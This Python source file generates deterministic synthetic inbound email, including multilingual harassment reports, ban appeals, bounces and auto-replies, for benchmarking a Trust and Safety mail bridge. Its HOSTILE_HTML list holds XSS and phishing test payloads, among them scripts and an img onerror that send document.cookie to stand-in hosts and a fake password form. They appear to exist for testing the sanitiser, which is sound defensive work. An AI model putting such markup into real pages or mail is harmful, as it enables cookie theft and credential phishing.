"""Deterministic generator of realistic inbound mail for the mail-bridge benchmarks.

``generate(count, seed)`` yields raw RFC 5322 messages (bytes, CRLF line endings) as they
would arrive in the ca@ and appeals@ mailboxes: new requests from the public, replies in
conversations (some citing parents that are not in the mailbox, such as the portal's own
acknowledgements), auto-replies, delivery-status bounces, HTML mail with hostile markup,
attachments and inline images, and Arabic, Hebrew and Cyrillic text in their legacy
charsets with RFC 2047 headers and quoted-printable or base64 bodies.

Messages are assembled by hand as bytes (not with ``email.message.EmailMessage``) so that
charsets, transfer encodings, folding and header order are exactly what real clients send.
The same ``seed`` always yields the same bytes. Nothing is kept per message except a
bounded window of recent conversations, so memory stays flat however many are generated.

Run ``python -m bench.corpus --count 5000 --out /tmp/corpus`` to write .eml files and print
a summary of the categories.
"""

from __future__ import annotations

import argparse
import base64
import binascii
import html
import json
import re
import statistics
import struct
import sys
import time
import zlib
from collections import Counter, deque
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from email import message_from_bytes
from email.header import decode_header
from email.parser import BytesHeaderParser
from email.policy import compat32
from email.utils import format_datetime
from pathlib import Path
from random import Random

__all__ = ["generate", "summarize"]

MAILBOXES = ("ca@example.org", "appeals@example.org")
PORTAL_DOMAIN = "portal.example.org"
MX_HOSTS = ("mx1.example.org", "mx2.example.org")
START = datetime(2026, 1, 5, 7, 12, 0, tzinfo=UTC)

# Kind of message, by share of the corpus. HTML and attachments are orthogonal features of
# new requests and replies (see _Generator.body).
KIND_WEIGHTS = (("new", 0.63), ("reply", 0.25), ("auto_reply", 0.08), ("bounce", 0.04))
HTML_SHARE = 0.145  # of new requests and replies; with inline images ~15 % of the corpus
ATTACH_SHARE = 0.115  # of new requests and replies -> ~10 % of the corpus
INLINE_SHARE = 0.035  # of new requests and replies, on top of the above
ABSENT_PARENT_SHARE = 1 / 3  # of replies
NO_MESSAGE_ID_SHARE = 0.01
AUTH_RESULTS_SHARE = 0.08
RAW_8BIT_HEADER_SHARE = 0.02  # of non-ASCII subjects
THREAD_WINDOW = 2000

# --------------------------------------------------------------------------------------
# Vocabulary
# --------------------------------------------------------------------------------------

# fmt: off
LATIN_FIRST = (
    "James", "Mary", "Robert", "Patricia", "John", "Jennifer", "Michael", "Linda", "David",
    "Elizabeth", "William", "Barbara", "Richard", "Susan", "Joseph", "Jessica", "Thomas", "Sarah",
    "Carlos", "Maria", "Juan", "Lucia", "Pierre", "Camille", "Lukas", "Anna", "Jonas", "Lea",
    "Giulia", "Marco", "Priya", "Arjun", "Wei", "Mei", "Kenji", "Yuki", "Oluwaseun", "Amara",
    "Sipho", "Zanele", "Mateo", "Sofia", "Liam", "Emma", "Noah", "Olivia", "Ethan", "Ava", "Aiden",
    "Chloe",
)
LATIN_LAST = (
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez",
    "Martinez", "Hernandez", "Lopez", "Wilson", "Anderson", "Taylor", "Thomas", "Moore", "Martin",
    "Jackson", "Lee", "Perez", "Thompson", "White", "Harris", "Clark", "Lewis", "Robinson",
    "Walker", "Young", "Allen", "Muller", "Schmidt", "Schneider", "Fischer", "Weber", "Dubois",
    "Moreau", "Laurent", "Rossi", "Bianchi", "Sharma", "Patel", "Chen", "Wang", "Tanaka", "Sato",
    "Okafor", "Adeyemi", "Nkosi", "Dlamini",
)
# fmt: on
# (native, transliteration) pairs used for display names and mailbox local parts.
ARABIC_FIRST = (
    ("محمد", "mohammed"),
    ("أحمد", "ahmed"),
    ("فاطمة", "fatima"),
    ("عمر", "omar"),
    ("ليلى", "layla"),
    ("يوسف", "youssef"),
    ("خالد", "khaled"),
    ("مريم", "maryam"),
    ("نور", "nour"),
    ("سارة", "sara"),
)
ARABIC_LAST = (
    ("العلي", "alali"),
    ("حسن", "hassan"),
    ("منصور", "mansour"),
    ("الخطيب", "alkhatib"),
    ("عبد الله", "abdullah"),
    ("السيد", "elsayed"),
    ("الحداد", "haddad"),
    ("ابراهيم", "ibrahim"),
)
HEBREW_FIRST = (
    ("יוסי", "yossi"),
    ("דנה", "dana"),
    ("משה", "moshe"),
    ("נועה", "noa"),
    ("אבי", "avi"),
    ("מיכל", "michal"),
    ("איתי", "itai"),
    ("שירה", "shira"),
)
HEBREW_LAST = (
    ("כהן", "cohen"),
    ("לוי", "levi"),
    ("מזרחי", "mizrahi"),
    ("פרץ", "peretz"),
    ("ביטון", "biton"),
    ("אברהם", "avraham"),
    ("פרידמן", "friedman"),
)
CYRILLIC_FIRST = (
    ("Алексей", "alexey"),
    ("Мария", "maria"),
    ("Дмитрий", "dmitry"),
    ("Ольга", "olga"),
    ("Сергей", "sergey"),
    ("Анна", "anna"),
    ("Иван", "ivan"),
    ("Екатерина", "ekaterina"),
    ("Никита", "nikita"),
    ("Татьяна", "tatiana"),
)
CYRILLIC_LAST = (
    ("Иванов", "ivanov"),
    ("Смирнова", "smirnova"),
    ("Кузнецов", "kuznetsov"),
    ("Попова", "popova"),
    ("Соколов", "sokolov"),
    ("Лебедева", "lebedeva"),
    ("Козлов", "kozlov"),
    ("Новикова", "novikova"),
)
EURO_FIRST = (
    ("José", "jose"),
    ("Begoña", "begona"),
    ("Jürgen", "juergen"),
    ("Łukasz", "lukasz"),
    ("François", "francois"),
    ("Zoë", "zoe"),
    ("Søren", "soren"),
    ("Inés", "ines"),
)
EURO_LAST = (
    ("Müller", "mueller"),
    ("Núñez", "nunez"),
    ("Größer", "groesser"),
    ("Peña", "pena"),
    ("Lefèvre", "lefevre"),
    ("Ibáñez", "ibanez"),
)

# fmt: off
USER_PARTS_A = (
    "Truth", "Seeker", "History", "Wiki", "Night", "Silent", "Red", "Blue", "Iron", "Free",
    "Honest", "Real", "Old", "New", "Dark", "Bright", "Lone", "Quiet", "Brave", "Neutral",
    "Editor", "Patrol", "Civic", "Ancient", "North", "Desert", "Cedar",
)
USER_PARTS_B = (
    "Seeker", "Editor", "Writer", "Fox", "Wolf", "Hawk", "Owl", "Watcher", "Guardian", "Scholar",
    "Reader", "Pilgrim", "Knight", "Falcon", "Lion", "Tiger", "Raven", "Admin", "Patroller",
    "Historian", "Gardener",
)
# fmt: on

WIKIS = (
    ("en", "wikipedia", "en.wikipedia"),
    ("ar", "wikipedia", "ar.wikipedia"),
    ("he", "wikipedia", "he.wikipedia"),
    ("ru", "wikipedia", "ru.wikipedia"),
    ("de", "wikipedia", "de.wikipedia"),
    ("fr", "wikipedia", "fr.wikipedia"),
    ("es", "wikipedia", "es.wikipedia"),
    ("fa", "wikipedia", "fa.wikipedia"),
    ("uk", "wikipedia", "uk.wikipedia"),
    ("commons", "wikimedia", "Wikimedia Commons"),
    ("www", "wikidata", "Wikidata"),
    ("meta", "wikimedia", "Meta-Wiki"),
    ("en", "wiktionary", "en.wiktionary"),
)

SUBJECTS_CA = (
    "Harassment on {wiki}",
    "Harassment by User:{user} on {wiki}",
    "Request for global ban of User:{user}",
    "Global ban request: {user}",
    "Doxxing - my personal information was posted on {wiki}",
    "Threats of violence on {wiki}",
    "URGENT: threat of self-harm posted on {wiki}",
    "Sockpuppet network on {wiki}",
    "Privacy violation on {wiki}",
    "Please remove my personal information",
    "Stalking across several projects",
    "Admin abuse on {wiki}",
    "Child safety concern on {wiki}",
    "Someone is impersonating me on {wiki}",
    "Off-wiki harassment related to {wiki}",
    "Report about User:{user}",
    "Complaint about an administrator on {wiki}",
    "Paid editing ring on {wiki}",
    "Help",
    "Question",
    "Urgent",
    "Please help",
    "Hello",
    "Complaint",
    "Report",
    "help me!!!",
    "URGENT!!",
    "Important",
    "Need assistance",
    "Safety issue",
)
SUBJECTS_APPEALS = (
    "Appeal of my global ban",
    "Ban appeal - User:{user}",
    "Appeal: blocked on {wiki}",
    "Request to review the Office Action against User:{user}",
    "Unblock request",
    "Appeal",
    "Why was my account banned?",
    "Appealing WMF ban",
    "Second appeal - User:{user}",
    "Please reconsider my ban",
)
SUBJECTS_NATIVE = {
    "ar": (
        "مضايقات على ويكيبيديا العربية",
        "طلب حظر عام للمستخدم {user}",
        "طعن في الحظر",
        "مساعدة",
        "سؤال",
        "نشر معلومات شخصية عني",
        "تهديد خطير",
        "شكوى ضد إداري",
    ),
    "he": (
        "הטרדה בוויקיפדיה העברית",
        "ערעור על חסימה",
        "עזרה",
        "שאלה",
        "פרסום מידע אישי עליי",
        "בקשה לחסימה גלובלית של {user}",
        "איום",
    ),
    "ru": (
        "Преследование в русской Википедии",
        "Обжалование блокировки",
        "Помогите",
        "Вопрос",
        "Публикация моих личных данных",
        "Запрос на глобальную блокировку участника {user}",
        "Угрозы в мой адрес",
        "Жалоба на администратора",
    ),
    "de": (
        "Belästigung auf de.wikipedia",
        "Einspruch gegen meine Sperre",
        "Hilfe",
        "Frage",
        "Veröffentlichung meiner persönlichen Daten",
    ),
    "es": (
        "Acoso en es.wikipedia",
        "Apelación de bloqueo",
        "Ayuda",
        "Pregunta",
        "Publicación de mis datos personales",
    ),
}

EN_SENTENCES = {
    "harassment": (
        "For the past {n} weeks User:{user} has been following me around {wiki} and reverting "
        "almost every edit I make.",
        "They leave insulting messages on my talk page and have started commenting on my edits "
        "on other projects too.",
        "I have reported this to the local administrators twice but nothing happened, and one "
        "of them told me to grow a thicker skin.",
        "Here is an example of what they wrote: {diff}",
        "I am scared to log in now and I have stopped editing because of this.",
        "Other editors have noticed the pattern as well, see the discussion at {page}",
        "The account was created right after my last dispute with them, so I believe it is a "
        "sockpuppet of someone who was blocked before.",
        "Some of the messages were sent through Special:EmailUser so they are not visible on "
        "the wiki; I can forward them to you if that helps.",
        "Another example, from yesterday: {diff}",
        "This has been going on since {year} and it is getting worse every month.",
    ),
    "doxxing": (
        "Someone has posted my real name, my employer and my home town on {page}",
        "The edit is still visible in the page history: {diff}",
        "I never disclosed this information on-wiki and I am worried about my safety and the "
        "safety of my family.",
        "Please suppress these revisions as soon as possible.",
        "The same person also linked to my social media accounts from an off-wiki forum.",
        "I have screenshots of everything in case the edits are deleted before you see them.",
    ),
    "threats": (
        "User:{user} wrote that they know where I live and that I should be careful.",
        "I consider this a credible threat and I have already contacted the local police.",
        "Another user posted a message saying they intend to hurt themselves; I am very worried: "
        "{diff}",
        "Please treat this as urgent.",
        "The message was posted at around {hour}:{minute} UTC and it is still visible.",
    ),
    "ban": (
        "I would like to request a global ban for User:{user}, who has been abusing several "
        "wikis for more than {n} months.",
        "They have been blocked on at least {n} projects for harassment, vandalism and "
        "sockpuppetry.",
        "A list of known accounts is below; all of them were confirmed by local checkusers.",
        "The community discussion on Meta is here: {page}",
        "The latest account was created only {n} days ago: {diff}",
    ),
    "appeal": (
        "I am writing to appeal the ban that was placed on my account User:{user}.",
        "I was never told exactly what I did wrong and I did not receive any warning before "
        "the ban.",
        "I understand that some of my comments in {year} were inappropriate and I apologise "
        "for them.",
        "I have contributed to {wiki} for more than {n} years and I would like to be able to "
        "edit again.",
        "If there is any additional information you need from me, please let me know.",
        "I believe I was mistaken for another person who uses the same network at my university.",
        "I promise to follow the Universal Code of Conduct from now on.",
    ),
    "generic": (
        "I don't know who else to contact about this.",
        "Can you please tell me what I should do?",
        "I tried to use the form on the website but it kept giving me an error.",
        "Is this the right address for this kind of problem?",
        "Please reply as soon as you can.",
        "Thank you for your time.",
        "I am sorry if my English is not perfect.",
        "My username is {user} if you need it.",
    ),
}
TOPIC_BY_SUBJECT = (
    ("appeal", "appeal"),
    ("ban", "ban"),
    ("unblock", "appeal"),
    ("reconsider", "appeal"),
    ("doxx", "doxxing"),
    ("personal", "doxxing"),
    ("privacy", "doxxing"),
    ("threat", "threats"),
    ("safety", "threats"),
    ("harass", "harassment"),
    ("stalk", "harassment"),
)

NATIVE_SENTENCES = {
    "ar": (
        "مرحبا، أكتب إليكم بخصوص مضايقات مستمرة على ويكيبيديا العربية.",
        "يقوم أحد المستخدمين بملاحقتي وإلغاء تعديلاتي منذ عدة أسابيع.",
        "لقد نشر معلومات شخصية عني في صفحة النقاش، وأطلب حذفها فورا.",
        "أرجو منكم التحقق من الأمر واتخاذ الإجراء المناسب.",
        "تم حظر حسابي دون سبب واضح وأود تقديم طعن في هذا القرار.",
        "هل يمكنكم مساعدتي؟ لا أعرف إلى من أتوجه.",
        "أرسلت رسالة إلى الإداريين المحليين ولكن لم يرد أحد.",
        "هذا الشخص يستخدم عدة حسابات وهمية للتهرب من الحظر.",
        "أشعر بالخوف ولم أعد أستطيع المساهمة في المشروع.",
        "شكرا جزيلا على وقتكم واهتمامكم.",
    ),
    "he": (
        "שלום, אני פונה אליכם בנוגע להטרדה בוויקיפדיה העברית.",
        "משתמש מסוים עוקב אחרי העריכות שלי ומבטל אותן כבר כמה שבועות.",
        "הוא פרסם את הכתובת ואת מספר הטלפון שלי בדף השיחה.",
        "אני מבקש להסיר את המידע הזה מיד.",
        "החשבון שלי נחסם ללא הסבר ואני רוצה לערער על ההחלטה.",
        "פניתי למפעילי המערכת המקומיים אבל לא קיבלתי תשובה.",
        "יש לי צילומי מסך של כל ההודעות אם תצטרכו.",
        "אני מפחד להמשיך לערוך בגלל המצב הזה.",
        "אשמח לעזרתכם בהקדם.",
        "תודה רבה על הזמן שלכם.",
    ),
    "ru": (
        "Здравствуйте! Пишу вам по поводу преследования в русской Википедии.",
        "Один участник уже несколько недель отменяет все мои правки и оскорбляет меня на "
        "странице обсуждения.",
        "Он опубликовал мой домашний адрес и номер телефона. Прошу срочно скрыть эти сведения.",
        "Мою учётную запись заблокировали без объяснения причин, и я хочу обжаловать это решение.",
        "Я обращался к местным администраторам, но никто не ответил.",
        "Этот человек использует несколько виртуальных аккаунтов, чтобы обходить блокировку.",
        "Подскажите, пожалуйста, к кому мне обратиться?",
        "Все сообщения я сохранил, могу прислать скриншоты.",
        "Заранее спасибо за помощь.",
    ),
    "de": (
        "Guten Tag, ich wende mich an Sie wegen anhaltender Belästigung in der deutschsprachigen "
        "Wikipedia.",
        "Ein Benutzer verfolgt meine Bearbeitungen seit Wochen und setzt sie zurück.",
        "Er hat meinen Namen und meine Wohnadresse auf einer Diskussionsseite veröffentlicht.",
        "Ich bitte Sie, diese Versionen so schnell wie möglich zu löschen.",
        "Mein Konto wurde ohne Begründung gesperrt und ich möchte Einspruch einlegen.",
        "Vielen Dank für Ihre Hilfe und freundliche Grüße.",
    ),
    "es": (
        "Hola, les escribo porque estoy sufriendo acoso en la Wikipedia en español.",
        "Un usuario revierte todas mis ediciones desde hace semanas y me insulta en mi página de "
        "discusión.",
        "Ha publicado mi nombre completo y la dirección de mi trabajo.",
        "Les pido que eliminen esa información lo antes posible.",
        "Mi cuenta fue bloqueada sin explicación y quiero apelar la decisión.",
        "Muchas gracias por su atención.",
    ),
}
GREETINGS = {
    "en": ("Hello,", "Dear Trust and Safety team,", "Hi,", "To whom it may concern,", "Hi there,"),
    "ar": ("السلام عليكم،", "مرحبا،", "إلى فريق الثقة والأمان،"),
    "he": ("שלום,", "לצוות האמון והבטיחות,"),
    "ru": ("Здравствуйте!", "Добрый день!", "Уважаемая команда!"),
    "de": ("Sehr geehrte Damen und Herren,", "Hallo,"),
    "es": ("Estimados señores:", "Hola:"),
}
CLOSINGS = {
    "en": ("Thanks,", "Best regards,", "Regards,", "Thank you,", "Sincerely,", "Cheers,"),
    "ar": ("مع خالص التحية،", "شكرا،"),
    "he": ("בברכה,", "תודה,"),
    "ru": ("С уважением,", "Спасибо,"),
    "de": ("Mit freundlichen Grüßen", "Viele Grüße"),
    "es": ("Saludos cordiales,", "Atentamente,"),
}
SIGNATURE_TAILS = (
    "Sent from my iPhone",
    "Sent from my Android phone",
    "Get Outlook for Android",
    "Sent from Yahoo Mail on Android",
    "Sent with Proton Mail secure email.",
)
DISCLAIMERS = (
    "CONFIDENTIALITY NOTICE: This e-mail message, including any attachments, is for the sole "
    "use of the intended recipient(s) and may contain confidential and privileged information. "
    "Any unauthorized review, use, disclosure or distribution is prohibited. If you are not the "
    "intended recipient, please contact the sender by reply e-mail and destroy all copies of the "
    "original message.",
    "This message and any attachments are intended only for the addressee and may contain "
    "information that is privileged and confidential. If you have received this message in "
    "error, please notify the sender immediately and delete it from your system. Please "
    "consider the environment before printing this e-mail.",
    "Disclaimer: The views expressed in this email are my own and do not necessarily reflect "
    "those of my employer. Emails are not secure and cannot be guaranteed to be error free.",
)
TITLES = (
    "Attorney at Law",
    "PhD candidate, Department of History",
    "Volunteer editor",
    "Librarian",
    "Senior Software Engineer",
    "Journalist",
    "Teacher",
)
EVIDENCE_INTROS = (
    "Links to the edits:",
    "Here are the diffs:",
    "Evidence (in chronological order):",
    "Some examples:",
    "Diffs:",
)
EVIDENCE_NOTES = (
    "",
    "",
    "(personal attack)",
    "(posted my real name)",
    "(reverted without explanation)",
    "(threat, see the edit summary)",
    "(same IP range as the previous account)",
    "(deleted by an admin but still in the history)",
    "(insult in Arabic, translation below)",
)
REPLY_OPENERS = {
    "en": (
        "Thank you for your reply.",
        "Hello again, I wanted to add some more information.",
        "It happened again today: {diff}",
        "Is there any update on my request?",
        "I have not heard back from you. Could you please tell me if anyone is looking at this?",
        "Here are the other accounts I mentioned: User:{user}, User:{user2}.",
        "Sorry, I forgot to attach the links in my previous message: {diff}",
        "Thanks. Yes, you can contact me at this address.",
        "Any news? It has been {n} days.",
    ),
}
PREFIX_RE = {"en": "Re:", "ar": "رد:", "he": "השב:", "ru": "Re:", "de": "AW:", "es": "RE:"}

# The portal's own mail (acknowledgements, staff replies) is tagged "[OA-...] <subject>".
ACK_SUBJECT = "[{case}] {subject}"
GENERIC_SUBJECT = "We have received your request"
STAFF_TEXT = (
    "Hello,\n"
    "\n"
    "Thank you for your message. We have reviewed the links you sent and we are looking into "
    "this. We may not be able to share the outcome with you, but we take every report "
    "seriously.\n"
    "\n"
    "Could you tell us whether you have reported this to the local administrators, and send "
    "any further examples as links to the specific edits (diffs)?\n"
    "\n"
    "Kind regards,\n"
    "{agent}\n"
    "Trust and Safety\n"
)
AGENTS = ("Alex", "Sam", "Jordan", "Robin", "Kim", "Noor", "Dana")
ACK_TEXT = (
    "Thank you for contacting the Trust and Safety team.\n"
    "\n"
    "Your message has been received and assigned the reference {case}. Please keep this "
    "reference in the subject line of any further correspondence about this matter.\n"
    "\n"
    "We read every message, but we cannot always reply individually. If you are in "
    "immediate danger, please contact your local emergency services.\n"
    "\n"
    "-- \n"
    "Trust and Safety\n"
)
AUTO_REPLY_TEXT = {
    "en": (
        "I am out of the office until {date} with limited access to email.\n\n"
        "For urgent matters please contact my colleague at the same address.\n"
    ),
    "de": (
        "Vielen Dank für Ihre Nachricht. Ich bin bis {date} nicht im Büro und habe nur "
        "eingeschränkten Zugriff auf meine E-Mails.\n"
    ),
    "ru": "Спасибо за письмо. Я в отпуске до {date} и отвечу после возвращения.\n",
    "he": "תודה על פנייתך. אני מחוץ למשרד עד {date} ואחזור אליך בהקדם.\n",
    "ar": "شكرا لرسالتك. أنا خارج المكتب حتى {date} وسأرد عليك عند عودتي.\n",
    "es": "Gracias por su mensaje. Estoy fuera de la oficina hasta el {date}.\n",
}
AUTO_SUBJECT_PREFIX = {
    "en": ("Out of Office: ", "Automatic reply: ", "Out of office Re: ", "Auto: ", "Autoreply: "),
    "de": ("Abwesenheitsnotiz: ", "Automatische Antwort: "),
    "ru": ("Автоответ: ", "Out of office: "),
    "he": ("מענה אוטומטי: ",),
    "ar": ("رد تلقائي: ",),
    "es": ("Respuesta automática: ",),
}

# charset choices per language, with weights. Legacy charsets still arrive from old clients
# and webmail in the Middle East and Russia.
CHARSETS = {
    "en": (("us-ascii", 0.35), ("UTF-8", 0.55), ("windows-1252", 0.06), ("iso-8859-1", 0.04)),
    "ar": (("UTF-8", 0.5), ("windows-1256", 0.3), ("iso-8859-6", 0.2)),
    "he": (("UTF-8", 0.5), ("iso-8859-8", 0.25), ("windows-1255", 0.25)),
    "ru": (("UTF-8", 0.45), ("koi8-r", 0.3), ("windows-1251", 0.25)),
    "de": (("UTF-8", 0.6), ("iso-8859-1", 0.3), ("iso-8859-15", 0.1)),
    "es": (("UTF-8", 0.6), ("iso-8859-1", 0.3), ("windows-1252", 0.1)),
}
LANG_WEIGHTS = (("en", 0.70), ("ar", 0.08), ("he", 0.06), ("ru", 0.09), ("de", 0.04), ("es", 0.03))
TIMEZONES = {
    "en": (-8, -5, -5, -4, 0, 0, 1, 5.5, 8, 10),
    "ar": (2, 3, 3, 4),
    "he": (2, 2, 3),
    "ru": (3, 3, 5, 7),
    "de": (1, 1, 2),
    "es": (1, -3, -5, -6),
}
DOMAINS = {
    "en": (
        ("gmail.com", 40),
        ("yahoo.com", 8),
        ("outlook.com", 8),
        ("hotmail.com", 7),
        ("icloud.com", 6),
        ("protonmail.com", 5),
        ("aol.com", 2),
        ("googlemail.com", 1),
        ("fastmail.com", 2),
        ("cs.example.edu", 2),
        ("mail.example.ac.uk", 1),
    ),
    "ar": (("gmail.com", 50), ("hotmail.com", 20), ("yahoo.com", 15), ("outlook.sa", 5)),
    "he": (("gmail.com", 55), ("walla.co.il", 20), ("012.net.il", 5), ("outlook.com", 10)),
    "ru": (("mail.ru", 30), ("yandex.ru", 30), ("gmail.com", 30), ("rambler.ru", 5)),
    "de": (("gmx.de", 30), ("web.de", 30), ("gmail.com", 30), ("t-online.de", 10)),
    "es": (("gmail.com", 60), ("hotmail.es", 25), ("yahoo.es", 15)),
}
CLIENT_BY_DOMAIN = {
    "gmail.com": "gmail",
    "googlemail.com": "gmail",
    "outlook.com": "outlook",
    "hotmail.com": "outlook",
    "outlook.sa": "outlook",
    "hotmail.es": "outlook",
    "yahoo.com": "yahoo",
    "yahoo.es": "yahoo",
    "aol.com": "yahoo",
    "icloud.com": "apple",
    "mail.ru": "mailru",
    "yandex.ru": "mailru",
    "rambler.ru": "mailru",
}
BOUNCE_MTAS = ("postfix", "gmail", "exim", "exchange")

HOSTILE_HTML = (
    "<script type=\"text/javascript\">document.location='http://tracker.example.net/c?u='"
    "+encodeURIComponent(document.cookie);</script>",
    '<p onclick="alert(\'clicked\')" style="color:#cc0000;font-weight:bold">Click here to '
    "see the evidence</p>",
    '<p>Screenshots: <a href="javascript:alert(document.domain)">view the screenshots</a></p>',
    '<img src="http://tracker.example.net/open.gif?id={hex}" width="1" height="1" alt="">',
    '<p><img src="http://images.example.net/upload/{hex}.png" alt="screenshot" '
    'style="max-width:600px;border:1px solid #ccc"></p>',
    '<iframe src="http://evil.example.net/frame.html" width="0" height="0" '
    'style="display:none"></iframe>',
    '<form action="http://phish.example.net/login" method="post"><input name="password" '
    'type="password"><input type="submit" value="Verify your account"></form>',
    "<div style=\"background-image:url('http://tracker.example.net/bg.png');position:fixed;"
    'top:0;left:0;width:100%;height:100%;z-index:9999">&nbsp;</div>',
    '<a href="http://evil.example.net/login" onmouseover="this.style.color=\'red\'">'
    "https://en.wikipedia.org/wiki/Special:UserLogin</a>",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<link rel="stylesheet" href="http://evil.example.net/x.css">',
    '<object data="http://evil.example.net/x.swf" type="application/x-shockwave-flash"></object>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open report</a>',
    '<meta http-equiv="refresh" content="30;url=http://evil.example.net/">',
    '<img src="x" onerror="fetch(\'http://evil.example.net/?c=\'+document.cookie)">',
)
OUTLOOK_STYLE = (
    "<style><!--\n"
    "/* Font Definitions */\n"
    '@font-face\n\t{font-family:"Cambria Math";\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\n'
    "@font-face\n\t{font-family:Calibri;\n\tpanose-1:2 15 5 2 2 2 4 3 2 4;}\n"
    "@font-face\n\t{font-family:Aptos;}\n"
    "/* Style Definitions */\n"
    "p.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0in;\n\tfont-size:11.0pt;\n"
    '\tfont-family:"Calibri",sans-serif;\n\tmso-ligatures:standardcontextual;}\n'
    "a:link, span.MsoHyperlink\n\t{mso-style-priority:99;\n\tcolor:#0563C1;\n"
    "\ttext-decoration:underline;}\n"
    "span.EmailStyle17\n\t{mso-style-type:personal-compose;\n"
    '\tfont-family:"Calibri",sans-serif;\n\tcolor:windowtext;}\n'
    ".MsoChpDefault\n\t{mso-style-type:export-only;\n\tfont-size:11.0pt;}\n"
    "@page WordSection1\n\t{size:8.5in 11.0in;\n\tmargin:1.0in 1.0in 1.0in 1.0in;}\n"
    "div.WordSection1\n\t{page:WordSection1;}\n"
    '--></style><!--[if gte mso 9]><xml>\n<o:shapedefaults v:ext="edit" spidmax="1026" />\n'
    '</xml><![endif]--><!--[if gte mso 9]><xml>\n<o:shapelayout v:ext="edit">\n'
    '<o:idmap v:ext="edit" data="1" />\n</o:shapelayout></xml><![endif]-->\n'
)
ATTACHMENT_NAMES = (
    ("screenshot.png", "image/png"),
    ("Screenshot 2026-01-{day:02d} at {hour:02d}.{minute:02d}.{second:02d}.png", "image/png"),
    ("IMG_{n4}.PNG", "image/png"),
    ("image{n1}.png", "image/png"),
    ("evidence.pdf", "application/pdf"),
    ("harassment_evidence_{n1}.pdf", "application/pdf"),
    ("court_order_{n4}.pdf", "application/pdf"),
    ("police report.pdf", "application/pdf"),
    ("ID scan.pdf", "application/pdf"),
    ("appeal letter.pdf", "application/pdf"),
)
NATIVE_ATTACHMENT_NAMES = {
    "ar": (("لقطة شاشة.png", "image/png"), ("الأدلة.pdf", "application/pdf")),
    "he": (("צילום מסך.png", "image/png"), ("ראיות.pdf", "application/pdf")),
    "ru": (("Скриншот.png", "image/png"), ("доказательства.pdf", "application/pdf")),
    "de": (("Bildschirmfoto.png", "image/png"), ("Beweise_Belästigung.pdf", "application/pdf")),
    "es": (("captura de pantalla.png", "image/png"), ("denuncia_policía.pdf", "application/pdf")),
}

SPAM_TESTS = (
    "BAYES_00", "DKIM_SIGNED", "DKIM_VALID", "DKIM_VALID_AU", "DKIM_VALID_EF", "FREEMAIL_FROM",
    "HTML_MESSAGE", "RCVD_IN_DNSWL_NONE", "RCVD_IN_MSPIKE_H2", "SPF_HELO_NONE", "SPF_PASS",
    "URIBL_BLOCKED", "MIME_HTML_MOSTLY", "T_SCC_BODY_TEXT_LINE", "FREEMAIL_ENVFROM_END_DIGIT",
    "MIME_QP_LONG_LINE", "HTML_IMAGE_ONLY_24", "TVD_SPACE_RATIO", "BAYES_50", "MISSING_MID",
)  # fmt: skip
CASE_RE = re.compile(r"\[OA-\d{4}-\d{6}\]")
MSGID_RE = re.compile(rb"<[^<>\s]+>")
CHARSET_RE = re.compile(rb'charset\s*=\s*"?(?!3[Dd])([A-Za-z0-9_.:-]+)', re.IGNORECASE)
B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
Q_SAFE = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


# --------------------------------------------------------------------------------------
# Encoding helpers
# --------------------------------------------------------------------------------------


def _pick(rng: Random, weighted: Iterable[tuple[str, float]]) -> str:
    items = tuple(weighted)
    total = sum(w for _, w in items)
    r = rng.random() * total
    for value, weight in items:
        r -= weight
        if r < 0:
            return value
    return items[-1][0]


def _crlf(data: bytes) -> bytes:
    return data.replace(b"\n", b"\r\n")


def _b64_lines(data: bytes) -> bytes:
    return _crlf(base64.encodebytes(data))


def _encoded_words(text: str, charset: str, enc: str) -> str:
    """RFC 2047 encoded-words for ``text``, each at most 75 characters, split on characters."""
    prefix = f"=?{charset}?{enc}?"
    room = 75 - len(prefix) - 2
    words: list[str] = []
    chunk = b""
    q_chunk = ""
    for ch in text:
        raw = ch.encode(charset)
        if enc == "B":
            if chunk and 4 * ((len(chunk) + len(raw) + 2) // 3) > room:
                words.append(base64.b64encode(chunk).decode())
                chunk = b""
            chunk += raw
        else:
            q = "".join(chr(b) if b in Q_SAFE else "_" if b == 0x20 else f"={b:02X}" for b in raw)
            if q_chunk and len(q_chunk) + len(q) > room:
                words.append(q_chunk)
                q_chunk = ""
            q_chunk += q
    if chunk:
        words.append(base64.b64encode(chunk).decode())
    if q_chunk:
        words.append(q_chunk)
    return "\r\n ".join(f"{prefix}{word}?=" for word in words)


def _uuid(rng: Random) -> str:
    u = rng.randbytes(16).hex()
    return f"{u[:8]}-{u[8:12]}-{u[12:16]}-{u[16:20]}-{u[20:]}"


def _fold(name: str, value: str, width: int = 78) -> str:
    """Fold an unstructured ASCII header at spaces (RFC 5322 section 2.2.3)."""
    line = f"{name}: {value}"
    if len(line) <= width or "\r\n" in value:
        return line
    out: list[str] = []
    current = ""
    for word in line.split(" "):
        if current and len(current) + 1 + len(word) > width:
            out.append(current)
            current = word
        else:
            current = f"{current} {word}" if current else word
    out.append(current)
    return "\r\n ".join(out)


def _wrap(text: str, width: int = 72, soft: str = "") -> str:
    """Wrap long lines at spaces, keeping "> " quote prefixes.

    ``soft`` is appended to lines that were broken here: " " gives RFC 3676 format=flowed.
    """
    lines: list[str] = []
    for line in text.split("\n"):
        if len(line) <= width:
            lines.append(line)
            continue
        prefix = "> " if line.startswith("> ") else ""
        current = ""
        for word in line[len(prefix) :].split(" "):
            if current and len(prefix) + len(current) + 1 + len(word) > width:
                lines.append(prefix + current + soft)
                current = word
            else:
                current = f"{current} {word}" if current else word
        lines.append(prefix + current)
    return "\n".join(lines)


def _header_text(text: str, charset: str, enc: str) -> str:
    """Header value: as is when ASCII, else RFC 2047 in ``charset`` (UTF-8 if it can't)."""
    if text.isascii():
        return text
    try:
        text.encode(charset)
    except UnicodeEncodeError:
        charset = "UTF-8"
    return _encoded_words(text, charset, enc)


